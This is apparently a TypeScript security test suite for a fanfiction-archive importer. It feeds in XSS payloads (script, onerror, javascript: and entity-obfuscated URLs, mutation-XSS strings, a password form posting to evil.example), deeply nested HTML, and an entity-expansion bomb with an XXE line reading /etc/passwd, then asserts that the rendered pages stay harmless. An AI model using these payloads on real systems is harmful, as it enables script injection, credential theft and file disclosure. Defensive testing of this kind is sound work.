import assert from 'node:assert/strict'
import { DomUtils, parseDocument } from 'htmlparser2'
import { onBothDatabases, type Stage } from '../stage.ts'
import { assertKept, assertUnharmed, bringIn, download, lineOf, makeFolder } from './bring-in.ts'
import { makeZip } from './make-zip.ts'

const attacks = [
  '<script>window.pwned = 1</script>',
  '<img src="x" onerror="pwned()">',
  '<svg onload="pwned()"><script>pwned()</script></svg>',
  '<a href="javascript:pwned()">a</a>',
  '<a href="&#106;ava&#10;script:pwned()">b</a>',
  '<a href="data:text/html,<script>pwned()</script>">c</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
  '<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/z)">d</div>',
  '<style>body { display: none } @import "https://evil.example/s.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/t.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/steal"><input name="password"><button>e</button></form>',
  '<p id="masthead" class="masthead">f</p><p onclick=pwned()>g</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  '<img src="https://evil.example/spy.gif"><video src="https://evil.example/v" autoplay></video>',
].join('\n')

const closer =
  '</div></div></main></body></html><script src="https://evil.example/after.js"></script>'

const escaped = attacks.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')

function hostileDownload(): string {
  const text = download.toString()
  const story = text
    .replaceAll('990001005', '990001666')
    .replaceAll('K&#39;Lai&#39;s Lantern &lt;3', `Lantern ${escaped.slice(0, 120)}`)
    .replaceAll('lamps, but sad', escaped.slice(0, 90))
    .replaceAll('Hundert Lampen', escaped.slice(0, 90))
    .replace(/<div class="userstuff">/g, (div) => `${div}\n${attacks}\n`)
    .replace(/<blockquote class="userstuff">/g, (quote) => `${quote}${attacks}`)
  assert.ok(story.includes(attacks))
  return story.replace(/(<\/div>\s*)<div id="afterword">/, `${closer}$1<div id="afterword">`)
}

/** Asserts that nothing on a page runs, loads from elsewhere, leads to a script or covers the page. */
function assertHarmless(body: string, where: string): void {
  const elements = DomUtils.findAll(() => true, parseDocument(body).children)
  assert.ok(elements.length > 20, `${where} is a page`)
  for (const { name, attribs, children } of elements) {
    const shown = `${where}: <${name} ${JSON.stringify(attribs)}>`
    assert.ok(!['iframe', 'object', 'embed', 'base', 'math', 'video'].includes(name), shown)
    if (name === 'script') {
      assert.ok(attribs.src?.startsWith('/') || attribs.type === 'application/json', shown)
      assert.ok(!DomUtils.textContent(children).includes('pwned'), shown)
    }
    if (name === 'style') assert.ok(!DomUtils.textContent(children).includes('evil'), shown)
    for (const [attribute, value] of Object.entries(attribs)) {
      assert.ok(!attribute.startsWith('on'), shown)
      assert.doesNotMatch(value, /^\s*(javascript|data|vbscript):/i, shown)
      if (attribute === 'style') assert.doesNotMatch(value, /position|url\(|z-index|inset/i, shown)
      if (['src', 'action', 'srcset', 'poster'].includes(attribute)) {
        assert.doesNotMatch(value, /evil\.example/, shown)
      }
      if (name === 'link' || name === 'meta') assert.doesNotMatch(value, /evil\.example/, shown)
    }
  }
}

/** Every page that links lead to from a page, and theirs, for guests. */
async function pagesFrom(stage: Stage, start: readonly string[]): Promise<Map<string, string>> {
  const site = stage.site()
  const found = new Map<string, string>()
  const open = [...start]
  for (let path = open.shift(); path !== undefined && found.size < 60; path = open.shift()) {
    const [page = path] = path.split('#')
    if (found.has(page)) continue
    const answer = await site.request(page)
    const body = await answer.text()
    if (!answer.headers.get('content-type')?.includes('text/html')) continue
    found.set(page, body)
    assert.match(answer.headers.get('content-security-policy') ?? '', /default-src 'none'/)
    const links = DomUtils.getElementsByTagName('a', parseDocument(body).children)
    open.push(...links.map(({ attribs }) => attribs.href ?? '').filter((to) => to.startsWith('/')))
  }
  return found
}

onBothDatabases('nothing hostile of a work reaches any page', async (stage, t) => {
  const bytes = hostileDownload()
  const plain = `${attacks}\n\nThere was a lamp, and it was lit.\n\n${attacks}\n${closer}\n`
  const folder = makeFolder(t, { 'hostile.html': bytes, 'plain.txt': plain })
  const view = await bringIn(stage, { path: folder })
  const { workId, outcome, remarks } = lineOf(view, 'hostile.html')
  assert.equal(outcome, 'created', remarks.map(({ message }) => message).join(' '))
  const works = view.items.map((item) => item.workId).filter((id) => id !== undefined)
  const start = works.flatMap((id) => [`/works/${id}`, `/works/${id}/entire`])
  const pages = await pagesFrom(stage, [...start, '/works', '/'])
  assert.ok([...pages.keys()].some((path) => path.startsWith(`/works/${workId}/`)))
  assert.ok(pages.size > 15, `${pages.size} pages were looked at`)
  const isShown = [...pages.values()].some((body) => body.includes('&lt;script&gt;window.pwned'))
  assert.ok(isShown, 'what a text says stays readable')
  for (const [path, body] of pages) assertHarmless(body, path)
  await assertKept(stage, bytes)
  await assertKept(stage, plain)
  await assertUnharmed(stage)
})

onBothDatabases('fifty thousand elements within one another come in flat', async (stage, t) => {
  const deep = (tag: string) => `${`<${tag}>`.repeat(50_000)}A lamp.${`</${tag}>`.repeat(50_000)}`
  const story = (number: number, inner: string) =>
    download
      .toString()
      .replaceAll('990001005', `9900017${number}`)
      .replace(/<div class="userstuff">/, (div) => `${div}${inner}`)
  const files = {
    'div.html': story(1, deep('div')),
    'b.html': story(2, deep('b')),
    'list.html': story(4, `${'<ul><li>'.repeat(25_000)}A lamp.`),
    'open.html': story(5, '<i>'.repeat(50_000)),
  }
  const view = await bringIn(stage, { path: makeFolder(t, files) })
  for (const [name, bytes] of Object.entries(files)) {
    const { workId, outcome, remarks } = lineOf(view, name)
    assert.notEqual(outcome, 'refused', `${name}: ${remarks.map(({ message }) => message)}`)
    const answer = await stage.site().request(`/works/${workId}/chapters/1`)
    assert.ok([200, 303, 302].includes(answer.status), `${name} answers ${answer.status}`)
    await assertKept(stage, bytes)
  }
  await assertUnharmed(stage)
})

onBothDatabases('entities that grow without end stay as small as they came', async (stage, t) => {
  const lines = Array.from({ length: 12 }, (_, n) => {
    return `<!ENTITY l${n + 1} "${`&l${n};`.repeat(12)}">`
  })
  const bomb = `<!DOCTYPE html [<!ENTITY l0 "lamp">${lines.join('')}<!ENTITY file SYSTEM "file:///etc/passwd">]>`
  const html = download
    .toString()
    .replace(/^<!DOCTYPE[^>]*>/, bomb)
    .replaceAll('990001005', '990001777')
    .replace(/<div class="userstuff">/, (div) => `${div}<p>&l12; &file; end</p>`)
  const book = `<?xml version="1.0"?>${bomb.replace('html', 'package')}<package>&l12;</package>`
  const json = JSON.stringify({ format: 'fanstead-work', title: `${bomb}&l12;`, chapters: [] })
  const container = '<container><rootfiles><rootfile full-path="book.opf"/></rootfiles></container>'
  const epub = makeZip([
    { name: 'mimetype', content: Buffer.from('application/epub+zip'), method: 0 },
    { name: 'META-INF/container.xml', content: Buffer.from(container) },
    { name: 'book.opf', content: Buffer.from(book) },
    { name: 'one.xhtml', content: Buffer.from(html) },
  ])
  const files = { 'bomb.html': html, 'bomb.xml': book, 'bomb.json': json, 'bomb.epub': epub }
  const view = await bringIn(stage, { path: makeFolder(t, files) })
  assert.equal(view.items.length, 4)
  for (const { workId, remarks } of view.items) {
    assert.ok(remarks.every(({ kind }) => kind !== 'unexpected' && kind !== 'took-too-long'))
    if (workId === undefined) continue
    const body = await (await stage.site().request(`/works/${workId}`)).text()
    assert.ok(body.length < 200_000, `the page has ${body.length} characters`)
    assert.doesNotMatch(body, /root:.*:0:0/)
  }
  for (const bytes of Object.values(files)) await assertKept(stage, bytes)
  await assertUnharmed(stage)
})
